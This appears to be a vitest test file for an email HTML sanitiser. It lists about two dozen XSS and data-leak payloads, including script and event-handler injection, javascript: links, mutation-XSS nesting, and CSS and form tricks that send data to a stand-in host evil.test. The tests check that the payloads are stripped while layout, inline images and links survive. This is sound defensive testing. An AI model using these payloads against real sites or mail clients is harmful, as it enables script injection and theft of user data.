import { expect, test } from "vitest";
import { cleanHtml, cleanText } from "./sanitise";

// Each would run a script, load something or leave its frame, if it were shown as it is.
const tricks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe src="https://evil.test/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.test/x"></object><embed src="https://evil.test/x">',
  '<form action="https://evil.test/"><input name=password><button formaction="https://evil.test/">x</button></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<base href="https://evil.test/">',
  '<link rel=stylesheet href="https://evil.test/x.css"><link rel=dns-prefetch href="//evil.test">',
  '<style>@import "https://evil.test/x.css"; a { background: url(https://evil.test/x) }</style>',
  "<style>input[value^=a] { background: url(//evil.test/a) } @font-face { font-family: x; src: url(https://evil.test/f) }</style>",
  '<p style="background: u\\72l(https://evil.test/x)">x</p>',
  '<p style="background-image: image-set(\'https://evil.test/x\' 1x)">x</p>',
  '<table background="https://evil.test/x"><tr><td background="//evil.test/y">x</td></tr></table>',
  '<img srcset="https://evil.test/x 1x" src="https://evil.test/y">',
  '<video poster="https://evil.test/x" src="https://evil.test/y"><source src="https://evil.test/z"></video>',
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
  '<div id="root" name="root" autofocus tabindex=1 onfocus=alert(1) contenteditable>x</div>',
  '<a href="https://trade.test/" ping="https://evil.test/">x</a>',
  '<template><img src=x onerror=alert(1)></template>',
];

test.each(tricks)("%s", (html) => {
  const { body } = cleanHtml(html);
  const left = body.innerHTML;
  expect(left).not.toMatch(/evil\.test|onerror|onload|onfocus|alert\(1\)<\/script|<script|<iframe|<object|<embed|<form|<input|<meta|<base|<link/i);
  for (const element of body.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|srcset|background|poster|ping/);
      if (name === "href") expect(value).not.toMatch(/^\s*(?:java|data)/i);
    }
  }
});

test("what a message looks like stays", () => {
  const { body, remote, inline } = cleanHtml(
    '<html><head><style>p { color: red }</style></head><body bgcolor="#eef"><p style="margin:0">你好 <b>x</b></p>' +
      '<img src="cid:logo%40trade.test"><img src="data:image/png;base64,AA"><img src="https://t.test/pixel.gif"></body></html>',
  );
  expect(body.innerHTML).toContain("color: red");
  expect(body.innerHTML).toContain('<p style="margin:0">你好 <b>x</b></p>');
  expect(body.innerHTML).toContain("data:image/png");
  expect([remote, inline.map(({ cid }) => cid)]).toEqual([1, ["logo@trade.test"]]);
});

test("the order of a page stays, and pictures that the server names", () => {
  const html = '<table width="600" align="center"><tbody><tr><td colspan="2" valign="top">x</td></tr></tbody></table><img data-remote="QUJD" width="10"><img data-cid="a%40b">';
  const { body, elsewhere, inline } = cleanHtml(html);
  expect(body.innerHTML).toContain('<table width="600" align="center"><tbody><tr><td colspan="2" valign="top">x</td></tr></tbody></table>');
  expect(elsewhere.map(({ token }) => token)).toEqual(["QUJD"]);
  expect(inline.map(({ cid }) => cid)).toEqual(["a@b"]);
});

test("text is shown as it is, with links", () => {
  const { body } = cleanText("<b>1 < 2</b>\n看 https://trade.test/a?b=1。 and https://trade.test/c.");
  expect(body.textContent).toBe("<b>1 < 2</b>\n看 https://trade.test/a?b=1。 and https://trade.test/c.");
  expect([...body.querySelectorAll("a")].map((link) => link.href)).toEqual(["https://trade.test/a?b=1", "https://trade.test/c"]);
});
